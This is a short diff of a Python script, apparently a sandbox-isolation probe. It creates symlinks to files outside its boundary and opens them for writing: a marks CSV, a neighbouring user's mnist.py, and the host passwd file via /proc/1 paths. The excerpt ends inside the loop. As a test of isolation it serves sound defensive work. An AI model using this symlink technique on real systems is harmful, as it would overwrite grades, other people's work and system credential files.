@@ -2,7 +2,7 @@
 # tells: yours to write
 import os
 
-for number, target in enumerate((f"{OUTSIDE}/marks.csv", f"{OUTSIDE}/neighbour/mnist.py", "/proc/1/root/etc/passwd")):
+for number, target in enumerate((f"{OUTSIDE}/marks.csv", f"{OUTSIDE}/neighbour/mnist.py", "/proc/1/cwd/passwd")):
     try:
         os.symlink(target, f"link{number}")
         with open(f"link{number}", "w") as file:
